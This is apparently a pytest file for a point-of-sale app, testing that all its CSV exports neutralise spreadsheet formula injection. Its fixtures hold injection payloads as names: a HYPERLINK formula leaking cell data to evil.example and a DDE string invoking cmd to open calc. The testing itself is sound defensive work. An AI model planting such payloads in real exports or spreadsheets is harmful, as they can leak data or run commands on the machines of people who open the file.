"""Spreadsheet formulas never leave the till in a CSV: all 8 outputs (stock, customers,
reports by item/category/employee, audit, hours, segment export) neutralise a cell that
starts with = + - @ tab or CR (OWASP: a leading single quote), and numbers stay numbers.

Each output is read back with the csv module, as a spreadsheet would, and no cell may
start like a formula unless it is a plain number.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.approvals import approved
from tui_pos.bootstrap import Till
from tui_pos.cli.output import analysis_csv
from tui_pos.cli.stock import render_stock
from tui_pos.domain.analysis import DateRange
from tui_pos.domain.barcode import gtin_check_digit
from tui_pos.domain.csv_export import FORMULA_START, csv_text, safe_cell
from tui_pos.domain.customer import CustomerDetails
from tui_pos.domain.segments import SegmentRule
from tui_pos.domain.staff import Action, Role
from tui_pos.services.customer_export import export_segment_file, rows_csv
from tui_pos.services.staff_reports import audit_report, hours_report

PRODUCT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CATEGORY = "+cmd|' /C calc'!A0"
EMPLOYEE = "@SUM(1+1)*cmd"
CUSTOMER = "-2+3+cmd"
SEGMENT = "=1+1"
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def _code(body: str) -> str:
    return body + str(gtin_check_digit(body))


def _formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: starting like a formula, and not a plain number."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)
    ]


def _cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


@pytest.fixture
def shop(demo_till: Till) -> Till:
    """A product (oversold), an employee and a customer named with formulas, one sale of them, a
    clock-in, a cash-out and a saved segment."""
    till = demo_till
    tax = till.config.taxes[0].code
    code = _code("200000000001")
    till.import_products(
        [
            "barcode,name,price,tax,category,stock,reorder_level\n",
            f'{code},"{PRODUCT.replace(chr(34), chr(34) * 2)}",2.00,{tax},"{CATEGORY}",1,5\n',
        ],
        approval=approved(till, Action.PRODUCT_ADMIN),
    )
    till.staff.add_employee(
        "9", EMPLOYEE, Role.MANAGER, "1357", approval=approved(till, Action.STAFF_ADMIN)
    )
    employee = till.staff.log_in("9", "1357")
    till.register.cashier = employee
    till.staff.clock_in_out()
    customer = till.customers.create(CustomerDetails(name=CUSTOMER, phone="0123456789"))
    till.register.enter("2*" + code)
    till.customers.attach(till.register, customer.id)
    till.register.pay_cash("")
    till.customers.save_segment(
        SEGMENT, SegmentRule(), approval=approved(till, Action.CUSTOMER_ADMIN)
    )
    return till


def _today(till: Till) -> DateRange:
    day = till.analysis.today()
    return DateRange(day - timedelta(days=1), day + timedelta(days=1))


def test_stock_export(shop: Till) -> None:
    text = render_stock(shop.stock.levels(low_only=False), "csv")
    assert "'" + PRODUCT in _cells(text)
    assert not _formula_cells(text)
    (row,) = [r for r in csv.reader(io.StringIO(text)) if "'" + PRODUCT in r]
    assert "-1" in row  # oversold (1 in stock, 2 sold): the level stays a number


def test_customer_export(shop: Till) -> None:
    text = rows_csv(shop.customers.export_rows(approval=approved(shop, Action.CUSTOMER_ADMIN)))
    assert "'" + CUSTOMER in _cells(text)
    assert not _formula_cells(text)


def test_segment_export_file(shop: Till, tmp_path: Path) -> None:
    path = export_segment_file(
        shop.customers,
        SEGMENT,
        tmp_path,
        shop.register.clock(),
        approved(shop, Action.CUSTOMER_ADMIN),
    )
    text = path.read_text(encoding="utf-8")
    assert "'" + CUSTOMER in _cells(text)
    assert not _formula_cells(text)


@pytest.mark.parametrize(
    ("kind", "expected"), [("item", PRODUCT), ("category", CATEGORY), ("employee", EMPLOYEE)]
)
def test_analysis_reports(shop: Till, kind: str, expected: str) -> None:
    text = analysis_csv(shop.analysis.report(kind, _today(shop)))
    assert "'" + expected in _cells(text)
    assert not _formula_cells(text)


def test_audit_and_hours(shop: Till) -> None:
    for make, action in ((audit_report, Action.AUDIT_READ), (hours_report, Action.REPORTS)):
        text = analysis_csv(make(shop.staff, _today(shop), approved(shop, action)))
        assert "'" + EMPLOYEE in _cells(text), make.__name__
        assert not _formula_cells(text), make.__name__


def test_negative_amounts_stay_numbers() -> None:
    text = csv_text(["a", "b", "c", "d", "e"], [[-150, "-150", "-1.50", "+3", -0.5]])
    assert text.splitlines()[1] == "-150,-150,-1.50,+3,-0.5"


@given(st.text(max_size=30))
def test_no_cell_starts_like_a_formula(value: str) -> None:
    cell = safe_cell(value)
    assert isinstance(cell, str)
    if cell.startswith(FORMULA_START):
        assert PLAIN_NUMBER.fullmatch(cell)
    assert cell in (value, "'" + value)
    (row,) = list(csv.reader(io.StringIO(csv_text(["x"], [[value]]), newline="")))[1:]
    assert row == [cell]
